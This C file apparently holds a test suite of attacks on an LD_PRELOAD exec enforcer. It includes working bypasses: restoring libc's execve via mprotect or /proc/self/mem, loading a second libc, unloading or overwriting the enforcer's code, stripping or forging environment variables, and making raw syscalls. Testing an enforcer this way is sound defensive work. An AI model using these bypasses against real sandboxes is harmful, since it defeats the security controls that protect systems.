// Attacks on the enforcer itself, from within the process it protects.
#include "attack.h"

#include <dlfcn.h>
#include <elf.h>
#include <link.h>
#include <sys/mman.h>

#define TARGET "/tmp/x"

static char *arguments[] = {TARGET, NULL};

typedef int (*execve_function)(const char *, char *const *, char *const *);

// What the file of a loaded library has where a function begins, and where that is in memory.
struct original {
  unsigned char *address;
  unsigned char bytes[64];
};

static const char *libc_path;
static uintptr_t libc_base;

static int find_libc(struct dl_phdr_info *info, size_t size, void *unused) {
  (void)size, (void)unused;
  if (info->dlpi_name == NULL || strstr(info->dlpi_name, "libc.so.6") == NULL)
    return 0;
  libc_path = info->dlpi_name;
  libc_base = info->dlpi_addr;
  return 1;
}

// libc's own execve, and not the enforcer's function of that name, which comes first in the order of symbols.
static void *libc_execve_address(void) {
  void *libc = dlopen("libc.so.6", RTLD_NOW | RTLD_NOLOAD);
  return libc == NULL ? NULL : dlsym(libc, "execve");
}

static int read_original(struct original *original) {
  original->address = libc_execve_address();
  if (dl_iterate_phdr(find_libc, NULL) == 0 || original->address == NULL)
    return -1;
  int file = open(libc_path, O_RDONLY);
  // Text segments of glibc lie in the file where they lie in memory, or one page beside it.
  off_t offset = (off_t)((uintptr_t)original->address - libc_base);
  ssize_t count = file < 0 ? -1 : pread(file, original->bytes, sizeof original->bytes, offset);
  if (file >= 0)
    close(file);
  return count == (ssize_t)sizeof original->bytes ? 0 : -1;
}

static struct original original;

static void execute_restored(void) { ((execve_function)original.address)(TARGET, arguments, environ); }

static void restore_by_protection(void) {
  uintptr_t page = (uintptr_t)original.address & ~4095UL;
  if (mprotect((void *)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) != 0)
    return;
  memcpy(original.address, original.bytes, sizeof original.bytes);
  execute_restored();
}

static void restore_by_memory_file(void) {
  int memory = open("/proc/self/mem", O_RDWR);
  if (memory < 0)
    return;
  if (pwrite(memory, original.bytes, sizeof original.bytes, (off_t)(uintptr_t)original.address) < 0)
    return;
  execute_restored();
}

static void restore(void (*body)(void)) {
  drop(STATIC, TARGET);
  if (read_original(&original) != 0) {
    say("libc's file cannot be read\n");
    return;
  }
  in_child(body);
}

ATTACK(unpatch_by_protection) { restore(restore_by_protection); }
ATTACK(unpatch_by_memory_file) { restore(restore_by_memory_file); }

// The bytes of the file, in fresh executable memory: a function that was never patched.
static void execute_copy_of_function(void) {
  void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (page == MAP_FAILED)
    return;
  memcpy(page, original.bytes, sizeof original.bytes);
  ((execve_function)page)(TARGET, arguments, environ);
}

ATTACK(copy_of_function) { restore(execute_copy_of_function); }

static execve_function fresh;

static void execute_fresh(void) { fresh(TARGET, arguments, environ); }

static void execute_from(void *library) {
  drop(STATIC, TARGET);
  fresh = library == NULL ? NULL : (execve_function)dlsym(library, "execve");
  if (fresh == NULL) {
    say("no second libc: %s\n", dlerror());
    return;
  }
  in_child(execute_fresh);
}

// A second libc beside the patched one.
ATTACK(second_libc_by_namespace) { execute_from(dlmopen(LM_ID_NEWLM, "libc.so.6", RTLD_NOW)); }
ATTACK(second_libc_of_musl) { execute_from(dlopen("/lib/ld-musl-x86_64.so.1", RTLD_NOW)); }

static void *find_enforcer(void) {
  void *self = dlopen(NULL, RTLD_NOW);
  struct link_map *map = NULL;
  if (self == NULL || dlinfo(self, RTLD_DI_LINKMAP, &map) != 0)
    return NULL;
  for (; map != NULL; map = map->l_next) {
    if (strstr(map->l_name, "libparapet") != NULL)
      return dlopen(map->l_name, RTLD_NOW | RTLD_NOLOAD);
  }
  return NULL;
}

static void execute_after_unloading(void) {
  void *enforcer = find_enforcer();
  for (int count = 0; enforcer != NULL && count < 8; count++)
    dlclose(enforcer);
  execve(TARGET, arguments, environ);
}

ATTACK(unload_enforcer) {
  drop(STATIC, TARGET);
  in_child(execute_after_unloading);
}

static void execute_after_unsetting(void) {
  unsetenv("LD_PRELOAD");
  unsetenv("PARAPET_CONTEXT");
  execve(TARGET, arguments, environ);
}

ATTACK(unset_variables) {
  drop(DYNAMIC, TARGET);
  in_child(execute_after_unsetting);
}

static void execute_without_environment(void) { execve(TARGET, arguments, NULL); }

ATTACK(empty_environment) {
  drop(DYNAMIC, TARGET);
  in_child(execute_without_environment);
}

static char context[64];
static char *forged[] = {context, "PARAPET_POLICY=permissive", "LD_PRELOAD=", "PATH=/tmp", NULL};

static void execute_with_forged_context(void) {
  snprintf(context, sizeof context, "PARAPET_CONTEXT=%d,-,permissive", getpid());
  execve(TARGET, arguments, forged);
}

// Claims to be the first process, which may start programs until the first invocation.
ATTACK(forged_context) {
  drop(DYNAMIC, TARGET);
  in_child(execute_with_forged_context);
}

// As the function's own helper, which then starts the dropped program under the forged context.
static char *helper_arguments[] = {"/var/task/bin/runner", TARGET, NULL};

static void execute_helper_with_forged_context(void) {
  snprintf(context, sizeof context, "PARAPET_CONTEXT=%d,-,permissive", getpid());
  execve(helper_arguments[0], helper_arguments, forged);
}

ATTACK(forged_context_of_helper) {
  drop(STATIC, TARGET);
  in_child(execute_helper_with_forged_context);
}

static void execute_static_helper(void) {
  helper_arguments[0] = "/var/task/bin/static-runner";
  execve(helper_arguments[0], helper_arguments, environ);
}

// An allowed program without libc, which no hook can enter, starts the dropped program.
ATTACK(static_helper) {
  drop(STATIC, TARGET);
  in_child(execute_static_helper);
}

ATTACK(static_helper_dynamic_program) {
  drop(DYNAMIC, TARGET);
  in_child(execute_static_helper);
}

static void unmap_enforcer(void) {
  struct link_map *map = find_enforcer();
  char line[512];
  FILE *maps = map == NULL ? NULL : fopen("/proc/self/maps", "r");
  while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
    unsigned long start, end;
    char permissions[5];
    if (strstr(line, "libparapet") == NULL || sscanf(line, "%lx-%lx %4s", &start, &end, permissions) != 3)
      continue;
    // Its text becomes instructions that return 0 whatever is asked.
    if (permissions[2] != 'x' ||
        mprotect((void *)start, end - start, PROT_READ | PROT_WRITE | PROT_EXEC) != 0)
      continue;
    for (unsigned char *byte = (unsigned char *)start; byte + 3 < (unsigned char *)end; byte += 3) {
      byte[0] = 0x31, byte[1] = 0xc0, byte[2] = 0xc3;
    }
  }
  inline_syscall(59, (long)TARGET, (long)arguments, (long)environ, 0, 0, 0);
}

ATTACK(overwrite_enforcer) {
  drop(STATIC, TARGET);
  in_child(unmap_enforcer);
}
